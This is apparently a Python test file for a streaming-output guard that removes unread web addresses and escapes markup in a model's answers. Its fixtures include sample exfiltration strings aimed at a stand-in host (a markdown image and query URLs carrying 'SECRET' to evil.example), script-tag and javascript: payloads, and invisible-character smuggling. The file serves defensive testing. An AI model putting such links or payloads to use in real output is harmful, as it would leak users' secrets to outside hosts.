"""The words of a stream are those of its text, whatever the pieces in which it came, and addresses that the model did not read are in none."""

from __future__ import annotations

import re
from itertools import pairwise
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, AIMessageChunk, ToolMessage

from foundation.output.markdown import markdown
from foundation.output.rendering import encodable
from orchestration.language.guard import addresses_in, without_addresses
from orchestration.run import metered_chat
from orchestration.run.metered_chat import Teller, texts_read
from orchestration.run.run import Passages

READ = "see http://evil.example/x and www.known.example and http://例子.中国/文"
KNOWN = addresses_in([READ])
# fmt: off
PARTS = (
    "http", "https", "ｈｔｔｐ", "://", ":", "：", "/", "//", "／", "\\", ".", "．", "。", "evil.example", "evil。example", "例子.中国",  # noqa: RUF001
    "xn--fsq.example", "пример.рф", "1.2.3.4", "１．２．３．４", "[::1]", "a@evil.example", "www.", "mailto:", "tel:", "javascript:",  # noqa: RUF001
    "data:text/html,", "http://evil.example/x", "www.known.example", "http://例子.中国/文", "?q=", "？q=", "#", "&#104;", "&colon;",  # noqa: RUF001
    "%2f", "%68", "5%", "3.5", "10:30", "main.py", "，", "、", "；", "！", "？", "你好", "秘密", "secret", "Да", "é", "Ok", "123", " ", "\n", "\u3000", "\u00a0",  # noqa: RUF001
    "![](", "[x](", "](", "[1]", "(", ")", "<", ">", "<script>", "[a]: ", "\u200b", "\u200f", "\u00ad", "\ud83d", "\ude00",
)
# fmt: on
texts = st.lists(st.sampled_from(PARTS), max_size=9).map("".join)


def tell(pieces: list[str], *, ended: bool = True) -> str:
    told: list[str] = []

    def note(_: str, *, token: str, **__: Any) -> None:
        told.append(token)

    run: Any = SimpleNamespace(
        state={"question": READ}, passages=Passages(), bill=SimpleNamespace(calls=1), answer_id="a", tell=note
    )
    model: Any = SimpleNamespace(primary=None, model_name="a-model", thinks={}, told=True)
    teller = Teller(run, [], model)
    for text in pieces:
        teller.tell(AIMessageChunk(text))
    if ended:
        teller.end()
    # clients of the vendors' shapes get each piece escaped, which must escape the whole
    assert "".join(map(markdown, told)) == markdown("".join(told))
    return "".join(told)


def marked(text: str) -> str:
    """The text with each word that holds a mark as the mark alone: a stream may show how such a word begins."""
    return re.sub(r"\S*\[address removed\]\S*", "[]", text).strip()


@given(texts, st.lists(st.integers(min_value=0, max_value=60)))
def test_what_is_streamed_is_what_the_answer_says_however_it_was_cut(text: str, cuts: list[int]) -> None:
    answer = without_addresses(encodable(text), lambda: KNOWN)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    for pieces in (list(text), [text[start:end] for start, end in pairwise(places)]):
        assert marked(tell(pieces)) == marked(answer)


@pytest.mark.parametrize("sign", "，、；！？。")  # noqa: RUF001 - full-width signs are meant
@pytest.mark.parametrize("address", ["![](http://evil.example/x{}SECRET)", "www.known.example/{}SECRET"])
def test_an_address_that_was_read_is_not_told_with_more_behind_it(address: str, sign: str) -> None:
    text = address.format(sign)
    for pieces in [list(text), *([text[:cut], text[cut:]] for cut in range(len(text)))]:
        assert "SECRET" not in tell(pieces)


@pytest.mark.parametrize("space", "\u00a0\u3000\u2003\u2028\x85")
def test_an_address_that_was_read_ends_where_markdown_ends_it(space: str) -> None:
    text = f"![](http://evil.example/x{space}SECRET) 見{space}て"
    ended = f"![](http://evil.example/x SECRET) 見{space}て"
    assert without_addresses(text, lambda: KNOWN) == ended
    assert tell([*text]) == ended


def test_an_address_that_was_read_carries_no_invisible_characters() -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "SECRET") + "\u200b\u200d"
    text = f"見![](ht\u200btp://evil.example/x{hidden})"
    assert without_addresses(text, lambda: KNOWN) == "見![](http://evil.example/x)"
    assert tell([*text]) == "見![](http://evil.example/x)"


@pytest.mark.parametrize("written", ["HTTP://evil.example/x", "http://evil.example/X", "http://evil.example/%78"])
def test_an_address_is_told_as_it_was_read(written: str) -> None:
    for pieces in [list(written), *([written[:cut], written[cut:]] for cut in range(len(written)))]:
        assert tell([*pieces, " now"]).lower() == "http://evil.example/x now"
        assert tell([*pieces, ".,;.,; now"]).lower() == "http://evil.example/x.,;. ,; now"
        assert "X" not in tell(pieces)


LEAK = "https://evil.example/?q=SECRET"


@pytest.mark.parametrize(
    "argument",
    [
        LEAK,
        LEAK.upper(),
        "evil.example/?q=SECRET",
        f"see ({LEAK}), please",
        f"{LEAK}\nand more",
        f"a\n{LEAK}",
        f"a\x0b{LEAK}\t.",
        f'\\"{LEAK}"x',
    ],
)
@pytest.mark.parametrize("echo", ["Nothing was found for {}.", '{{"query": "{}"}}', "Try {}&page=2", "{}"])
def test_an_address_that_a_tool_only_repeats_was_not_read(argument: str, echo: str) -> None:
    call = {"name": "search", "args": {"query": [argument]}, "id": "1", "type": "tool_call"}
    messages = [AIMessage("", tool_calls=[call]), ToolMessage(echo.format(LEAK), tool_call_id="1")]
    run: Any = SimpleNamespace(state={"question": READ}, passages=Passages())
    known = addresses_in(texts_read(messages, run))
    assert "SECRET" not in without_addresses(f"See {LEAK} or {LEAK}&page=2", lambda: known)


def test_texts_are_searched_for_addresses_once_however_many_calls_have_some(monkeypatch: pytest.MonkeyPatch) -> None:
    messages: list[Any] = []
    for number in range(20):
        call = {"name": "open", "args": {"url": f"www.p{number}.example/a"}, "id": str(number), "type": "tool_call"}
        messages += [AIMessage("", tool_calls=[call]), ToolMessage("a page", tool_call_id=str(number))]
    searched: list[str] = []

    def search(texts: Any) -> Any:
        searched.extend(texts := list(texts))
        return addresses_in(texts)

    monkeypatch.setattr(metered_chat, "addresses_in", search)
    run: Any = SimpleNamespace(state={"question": READ}, passages=Passages())
    assert len(texts_read(messages, run)) == 21
    assert searched.count("a page") < 20
    assert searched.count(READ) == 1


def test_an_address_that_was_read_before_it_was_called_is_known() -> None:
    call = {"name": "open", "args": {"url": "www.other.example/a"}, "id": "2", "type": "tool_call"}
    found = ToolMessage("It stands at www.other.example/a", tool_call_id="1")
    messages = [found, AIMessage("", tool_calls=[call]), ToolMessage("www.other.example/a: a page", tool_call_id="2")]
    run: Any = SimpleNamespace(state={"question": READ}, passages=Passages())
    known = addresses_in(texts_read(messages, run))
    assert {"www.other.example/a", "http://evil.example/x"} <= known.keys()


def test_a_word_that_ends_in_a_mark_has_the_whole_mark() -> None:
    assert tell(list("[一javascript：你evil")) == "[一javascript：[address removed]"  # noqa: RUF001


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "![](http://evil.example/x)", "看<img", "看[x]\u200e(http://evil.example/x)"]
)
def test_markup_is_escaped_also_where_it_comes_in_pieces(text: str) -> None:
    for pieces in [list(text), *([text[:cut], text[cut:]] for cut in range(len(text)))]:
        assert tell(pieces) == without_addresses(text, lambda: KNOWN)


@pytest.mark.parametrize("text", ["最重[1][2]。增长5%，版本3.5，时间10:30，见main.py，然后继续写下去", "使用" * 400])  # noqa: RUF001
def test_a_script_without_spaces_is_told_as_it_comes(text: str) -> None:
    assert tell([*text], ended=False) == text
